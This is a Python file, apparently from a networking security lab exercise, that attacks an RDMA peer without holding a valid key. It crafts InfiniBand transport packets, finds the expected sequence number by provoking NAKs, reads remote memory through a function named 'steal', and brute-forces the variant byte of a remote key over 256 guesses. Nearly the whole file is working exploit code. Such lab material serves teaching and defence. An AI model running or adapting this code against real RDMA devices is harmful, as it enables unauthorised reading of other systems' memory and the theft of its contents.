# Lab 15: attack: a peer without a valid key. The text is README.md.
# SPDX-License-Identifier: GPL-2.0-or-later
import struct

from lab import solution

PEER = solution("07-transport")
frame, parse = PEER.frame, PEER.parse
WRITE_ONLY, READ_REQUEST, READ_RESPONSE_ONLY, ACKNOWLEDGE = 0x0a, 0x0c, 0x10, 0x11      # opcodes
NAK_SEQUENCE = 0x60             # syndrome of a NAK PSN sequence error


def bth(opcode, qp, psn, pad=0):
    """Returns a BTH with AckReq."""
    return struct.pack(">BBHIBBH", opcode, 0x40 | pad << 4, 0xffff, qp, 0x80, psn >> 16, psn & 0xffff)


def write_packet(qp, psn, address, rkey, data):
    """Returns an RDMA WRITE Only to queue pair qp, without ICRC."""
    pad = -len(data) % 4
    return bth(WRITE_ONLY, qp, psn, pad) + struct.pack(">QII", address, rkey, len(data)) + data + bytes(pad)


def read_packet(qp, psn, address, rkey, length):
    """Returns an RDMA READ Request to queue pair qp, without ICRC."""
    return bth(READ_REQUEST, qp, psn) + struct.pack(">QII", address, rkey, length)


def find_psn(ask, qp):
    """Returns the PSN that queue pair qp expects. ask(frame) sends a frame, and returns the answer, a frame or None."""
    for guess in (0, 1 << 23):
        answer = ask(frame(write_packet(qp, guess, 0, 0, b"")))
        packet = parse(answer) if answer else None
        if packet and packet.opcode == ACKNOWLEDGE and packet.payload[0] == NAK_SEQUENCE:
            return packet.psn
    return None


def steal(ask, qp, address, rkey, length):
    """Returns bytes of the device's memory, or the syndrome of the NAK."""
    packet = parse(ask(frame(read_packet(qp, find_psn(ask, qp), address, rkey, length))))
    return packet.payload[4:] if packet.opcode == READ_RESPONSE_ONLY else packet.payload[0]


def open_variant(connections, address, index):
    """Guesses the variant of the key with this index. connections returns (ask, qp), a new connection for each guess."""
    for variant in range(256):
        ask, qp = next(connections)
        if isinstance(steal(ask, qp, address, index << 8 | variant, 1), bytes):
            return variant
    return None
